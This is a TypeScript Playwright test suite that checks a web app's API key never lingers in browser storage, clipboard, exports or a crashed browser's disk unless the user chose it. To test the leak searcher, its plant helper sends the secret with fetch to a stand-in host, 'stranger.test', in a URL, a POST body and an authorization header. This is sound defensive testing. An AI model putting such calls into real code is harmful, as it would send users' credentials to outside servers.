// After a full run, all that can be saved or copied, a reload and a crash: the key's bytes are nowhere but where the person put them.
import type { BrowserContext, Page } from '@playwright/test';
import { watchPhases } from '../pages/acts.mjs';
import { EditorPage } from '../pages/editor-page.ts';
import { guises, guisesIn } from '../pages/encodings.ts';
import { expect, MODEL, test } from '../pages/fixtures.ts';
import { JobPage } from '../pages/job-page.ts';
import { Leaks, placesOf, placesOnDisk, search } from '../pages/key-search.ts';
import { startBrowser } from '../pages/own-browser.ts';
import { galleryAnswers, partOfJob } from '../server/any-job.mjs';

// A trace wants a last word of every browser, and some of these are killed.
test.use({ trace: 'off' });

/** Signs in it are written differently in an address, in JSON and in markup. */
const SECRET = 'sk-kept/+"\\&<%~?????0123456789-of-nobody';
const WORDS = 'four plain kitchen words';

const TAB = /^In this tab/;
const DEVICE = /^On this device/;

/** Written out anew, so that a fault of the searcher is none of the test's. */
const hexOf = (bytes: Buffer) => Array.from(bytes, (byte) => (byte < 16 ? '0' : '') + byte.toString(16)).join('');
const bigEndian = (text: string) => Buffer.from([...text].flatMap((letter) => [letter.charCodeAt(0) >> 8, letter.charCodeAt(0) & 255]));
const WRITTEN: Record<string, string | Buffer> = {
  plain: `x${SECRET}y`,
  'UTF-16LE': Buffer.from(`xx${SECRET}y`, 'utf16le'),
  'UTF-16BE': bigEndian(`xx${SECRET}y`),
  hex: `f${hexOf(Buffer.from(SECRET))}f`,
  'hex, upper case': hexOf(Buffer.from(`a${SECRET}`)).toUpperCase(),
  percent: `https://a.test/?k=${encodeURIComponent(SECRET)}&x`,
  'percent, of a form': String(new URLSearchParams({ a: `${SECRET} b` })),
  'percent, every byte': hexOf(Buffer.from(SECRET)).toUpperCase().replace(/../g, '%$&'),
  'percent, every byte, lower case': hexOf(Buffer.from(SECRET)).replace(/../g, '%$&'),
  JSON: JSON.stringify({ key: SECRET }),
  'JSON in JSON': JSON.stringify({ body: JSON.stringify({ key: SECRET }) }),
  'JSON, every letter': hexOf(bigEndian(SECRET)).replace(/..../g, '\\u$&'),
  markup: `<p title="${SECRET.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">`,
  reversed: SECRET.split('').reverse().join(''),
  'base64, behind 0': btoa(`abc${SECRET}tail`),
  'base64, behind 1': btoa(`abcd${SECRET}tail`),
  'base64, behind 2': btoa(`abcde${SECRET}`),
  'base64url, behind 0': Buffer.from(`${SECRET}.`).toString('base64url'),
  'base64url, behind 1': Buffer.from(`a${SECRET}`).toString('base64url'),
  'base64url, behind 2': Buffer.from(`ab${SECRET}..`).toString('base64url'),
  'hex, in two bytes for each letter': Buffer.from(`…${hexOf(Buffer.from(SECRET))}`, 'utf16le'),
  'base64 of UTF-16LE, behind 0': Buffer.from(`abc${SECRET}tail`, 'utf16le').toString('base64'),
  'base64 of UTF-16LE, behind 1': Buffer.concat([Buffer.from('a'), Buffer.from(SECRET, 'utf16le')]).toString('base64'),
  'base64 of UTF-16LE, behind 2': Buffer.from(`a${SECRET}tail`, 'utf16le').toString('base64'),
};

test('the searcher knows the key in every guise, and no other text for it', () => {
  const all = guises(SECRET);
  for (const [name, text] of Object.entries(WRITTEN)) expect(guisesIn(text, all), name).toContain(name);
  const known = new Set(Object.keys(WRITTEN));
  // Where an alphabet makes no difference, two guises are one.
  expect(all.map(({ name }) => name).filter((name) => !known.has(name) && !/^base64url|two bytes/.test(name))).toEqual([]);
  const others = guises(SECRET.replace('0123', '0124'));
  for (const [name, text] of Object.entries(WRITTEN)) expect(guisesIn(text, others), name).toEqual([]);
});

/** Puts a text wherever a page can. */
async function plant(page: Page, { text, stranger }: { text: string; stranger: string }) {
  await page.evaluate(
    async ({ text, stranger }) => {
      const bytes = new TextEncoder().encode(text);
      localStorage.setItem('planted', text);
      sessionStorage.setItem('planted', text);
      document.cookie = `planted=${encodeURIComponent(text)}; path=/`;
      const db = await new Promise<IDBDatabase>((resolve) => {
        const opening = indexedDB.open('planted');
        opening.onupgradeneeded = () => opening.result.createObjectStore('store');
        opening.onsuccess = () => resolve(opening.result);
      });
      const writing = db.transaction('store', 'readwrite', { durability: 'strict' });
      const deep = { list: [new Map([['a', new Set([{ in: new Blob(['..', bytes]) }])]])] };
      writing.objectStore('store').put(deep, 'deep');
      await new Promise((resolve) => (writing.oncomplete = resolve));
      db.close();
      const cache = await caches.open('planted');
      await cache.put('/kept', new Response(new Blob(['..', bytes])));
      history.replaceState({ deep: [text] }, '', `#${encodeURIComponent(text)}`);
      window.name = text;
      document.title = text;
      const root = document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'open' });
      root.textContent = text;
      const field = document.body.appendChild(document.createElement('input'));
      field.id = 'planted';
      field.value = text;
      document.body.append(document.createComment(text));
      console.log('said', text);
      await navigator.clipboard.writeText(text);
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['..', bytes]));
      link.download = 'planted.txt';
      link.click();
      await (await fetch(`planted?${encodeURIComponent(text)}`)).text();
      const sends: RequestInit = { mode: 'no-cors' };
      await fetch(`${stranger}/?${encodeURIComponent(text)}`, sends);
      await fetch(`${stranger}/b`, { ...sends, method: 'POST', body: text });
      await fetch(`${stranger}/h`, { headers: { authorization: text } }).catch(() => {});
    },
    { text, stranger },
  );
}

const PLACES = [
  'IndexedDB', 'Cache API', 'address', 'addresses asked for', 'clipboard', 'console', 'cookie', 'document', 'download', 'field planted', 'history',
  'localStorage', 'sessionStorage', 'title', 'window name', 'address to the other server', 'body to the other server', 'headers to the other server',
];

test('and finds what is planted in every place', async ({ page, context, job }) => {
  // A header of a page's own is asked for first; this server lets every one in.
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const leaks = new Leaks(context);
  await context.route('https://stranger.test/**', (route) =>
    route.fulfill({ status: 200, headers: { 'access-control-allow-origin': '*', 'access-control-allow-headers': 'authorization' }, body: 'taken' }),
  );
  await job.open();
  const all = async () => search([...(await placesOf(page)), ...(await leaks.places('https://chosen.test'))], SECRET);
  await expect.poll(all).toEqual([]);
  await plant(page, { text: SECRET, stranger: 'https://stranger.test' });
  await expect.poll(leaks.downloads.bind(leaks)).toBe(1);
  const found = new Set((await all()).map((one) => one.slice(0, one.indexOf(':'))));
  expect([...found].sort()).toEqual([...PLACES].sort());
});

test('and on the disk of a browser that was killed, in bytes and in letters', async ({ site }) => {
  const browser = await startBrowser();
  try {
    const page = await browser.context.newPage();
    await page.goto(site.url);
    await page.evaluate(async (text) => {
      const db = await new Promise<IDBDatabase>((resolve) => {
        const opening = indexedDB.open('planted');
        opening.onupgradeneeded = () => opening.result.createObjectStore('store');
        opening.onsuccess = () => resolve(opening.result);
      });
      const writing = db.transaction('store', 'readwrite', { durability: 'strict' });
      // One with a letter beyond Latin-1 is kept in two bytes for each letter.
      writing.objectStore('store').put([text, `${text}…`], 'texts');
      await new Promise((resolve) => (writing.oncomplete = resolve));
      localStorage.setItem('planted', text);
      sessionStorage.setItem('planted', text);
    }, SECRET);
    const storage = /Local Storage.*: (plain|UTF-16LE)/;
    await expect.poll(() => search(placesOnDisk(browser.profile), SECRET).join('\n'), { timeout: 40_000 }).toMatch(storage);
    await browser.kill();
    const found = search(placesOnDisk(browser.profile), SECRET).join('\n');
    expect(found).toMatch(/IndexedDB.*: plain/);
    expect(found).toMatch(/IndexedDB.*: UTF-16LE/);
    expect(found).toMatch(/Session Storage.*: (plain|UTF-16LE)/);
    expect(found).toMatch(storage);
  } finally {
    await browser.close();
  }
});

/** Jobs whose answers can be copied or saved in ways of their own, beside the one that the page opens with. */
const JOBS = ['customer-messages', 'menu', 'taglines'] as const;

type Fake = Parameters<Parameters<typeof test>[2]>[0]['provider'];

/** Opens the page in this context and gives it the key. */
async function given({ context, provider, url, way }: { context: BrowserContext; provider: Fake; url: string; way?: RegExp }) {
  const page = await context.newPage();
  await page.addInitScript(watchPhases);
  const job = new JobPage(page);
  await job.open(url);
  await give(job, provider, way);
  return { page, job };
}

async function give(job: JobPage, provider: Fake, way?: RegExp) {
  await job.openSettings();
  await job.fillSettings({ baseURL: provider.baseURL, key: SECRET, model: MODEL });
  await job.field('Model').press('Tab');
  if (way) await job.dialog.getByRole('radio', { name: way }).check();
  if (way === DEVICE) {
    await job.dialog.getByRole('textbox', { name: 'Passphrase' }).fill(WORDS);
    await job.dialog.getByRole('button', { name: 'Encrypt and keep' }).click();
    await expect(job.dialog.getByText('Encrypted on this device.')).toBeVisible();
  }
  await job.dialog.getByRole('button', { name: 'Test connection' }).click();
  await expect(job.dialog.getByRole('status').filter({ hasText: /\S/ }).first()).toBeVisible();
  await job.closeSettings();
}

/** Runs several jobs, and presses all that saves or copies. Says how many files were saved and what was copied. */
async function runAndExport(page: Page, job: JobPage, provider: Fake) {
  const copies: string[] = [];
  const saves: string[] = [];
  const press = async () => {
    // Each is called by another name once it has copied, and keeps its place among them.
    for (const button of await page.getByRole('button', { name: /^Cop(y|ied)\b/ }).filter({ visible: true }).all()) {
      await button.click();
      await expect(button).toHaveAccessibleName(/^Copied/);
      copies.push(await page.evaluate(() => navigator.clipboard.readText()));
    }
    for (const button of await page.getByRole('button', { name: /^Save as a file/ }).filter({ visible: true }).all()) {
      const [download] = await Promise.all([page.waitForEvent('download'), button.click()]);
      saves.push(download.suggestedFilename());
    }
  };
  expect(await job.runToEnd()).toBe('done');
  await press();
  for (const id of JOBS) {
    await job.pick(id);
    provider.behave(galleryAnswers(id), partOfJob(id));
    expect(await job.runToEnd()).toBe('done');
    await press();
  }
  const editor = new EditorPage(page);
  await editor.open();
  await press();
  await editor.press('Done');
  return { copies, saves };
}

test.describe('after runs, all that is saved and copied, and a reload, the key is', () => {
  test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

  test('nowhere, where it was left in the page alone', async ({ context, provider, site }) => {
    test.setTimeout(180_000);
    const leaks = new Leaks(context);
    const { page, job } = await given({ context, provider, url: site.url });
    const { copies, saves } = await runAndExport(page, job, provider);
    expect(copies.length).toBeGreaterThan(1);
    expect(saves).toEqual(expect.arrayContaining(['mood.csv', 'taglines.json']));
    const chosen = new URL(provider.baseURL).origin;
    const all = async () => search([...(await placesOf(page)), ...(await leaks.places(chosen))], SECRET);
    // It is in its field while the dialog is there.
    expect((await all()).filter((one) => !one.startsWith('field API key'))).toEqual([]);
    await page.reload();
    await expect(page.locator('[data-returned]')).toBeVisible();
    expect(await all()).toEqual([]);
    await job.openSettings();
    await expect(job.field('API key')).toHaveValue('');
    expect(await all()).toEqual([]);
    // The server has had it, and in its header alone.
    expect(provider.calls().length).toBeGreaterThan(0);
    for (const { headers } of provider.journal) expect(headers.authorization).toBe(`Bearer ${SECRET}`);
  });

  test('in the tab’s own storage, where that was chosen, and in no other tab', async ({ context, provider, site }) => {
    test.setTimeout(180_000);
    const leaks = new Leaks(context);
    const { page, job } = await given({ context, provider, url: site.url, way: TAB });
    await runAndExport(page, job, provider);
    await page.reload();
    await expect(page.locator('[data-returned]')).toBeVisible();
    const chosen = new URL(provider.baseURL).origin;
    const all = async (page: Page) => search([...(await placesOf(page)), ...(await leaks.places(chosen))], SECRET);
    const places = (found: string[]) => [...new Set(found.map((one) => one.slice(0, one.indexOf(':'))))];
    // And in its field, where the person would look for it.
    expect(places(await all(page)).filter((place) => place !== 'field API key')).toEqual(['sessionStorage']);
    const other = await context.newPage();
    await new JobPage(other).open(site.url);
    expect(await all(other)).toEqual([]);
  });

  test('on the device only as what nobody can read, where that was chosen', async ({ context, provider, site }) => {
    test.setTimeout(180_000);
    const leaks = new Leaks(context);
    const { page, job } = await given({ context, provider, url: site.url, way: DEVICE });
    await runAndExport(page, job, provider);
    await page.reload();
    await expect(page.locator('[data-returned]')).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem('forkful.keys'))).toMatch(/AES-256-GCM/);
    const chosen = new URL(provider.baseURL).origin;
    for (const text of [SECRET, WORDS]) expect(search([...(await placesOf(page)), ...(await leaks.places(chosen))], text)).toEqual([]);
    // It was there: the passphrase brings it back.
    await job.openSettings();
    await job.dialog.getByRole('textbox', { name: 'Passphrase' }).fill(WORDS);
    await job.dialog.getByRole('button', { name: 'Unlock' }).click();
    await expect(job.field('API key')).toHaveValue(SECRET);
  });
});

// What is kept in memory and in a tab must not be on the disk of a person whose browser crashed. A tab's storage is where the browser
// keeps it, and that is beside the profile's other files, so there it is found.
for (const { what, way, places } of [
  { what: 'this page', way: undefined, places: [] },
  { what: 'this tab', way: TAB, places: ['Session Storage'] },
  { what: 'this device', way: DEVICE, places: [] },
]) {
  test(`a browser that is killed in a run has the key kept for ${what} on its disk ${places.length > 0 ? 'in that tab’s storage alone' : 'nowhere'}`, async ({ provider, site }) => {
    test.setTimeout(120_000);
    const browser = await startBrowser();
    try {
      const { page, job } = await given({ context: browser.context, provider, url: site.url, way });
      expect(await job.runToEnd()).toBe('done');
      provider.behave(() => ({ text: 'a word and more of them', stallAfter: 3 }));
      await job.run();
      await expect(job.part('cost').text).toContainText('a word');
      // Storage is written behind the page's back: a mark that is set last is written last.
      await page.evaluate(() => [localStorage, sessionStorage].forEach((storage) => storage.setItem('mark', 'set-after-the-key')));
      const marked = () => search(placesOnDisk(browser.profile), 'set-after-the-key').join('\n');
      await expect.poll(marked, { timeout: 60_000 }).toMatch(/Local Storage/);
      await expect.poll(marked, { timeout: 60_000 }).toMatch(/Session Storage/);
      await browser.kill();
      const disk = placesOnDisk(browser.profile);
      expect(search(disk, 'smoked paprika chickpeas').join('\n'), 'the run itself is there').toMatch(/IndexedDB/);
      const found = search(disk, SECRET);
      expect([...new Set(found.map((one) => /^disk: Default\/([^/]+)/.exec(one)?.[1] ?? one))]).toEqual(places);
    } finally {
      await browser.close();
    }
  });
}
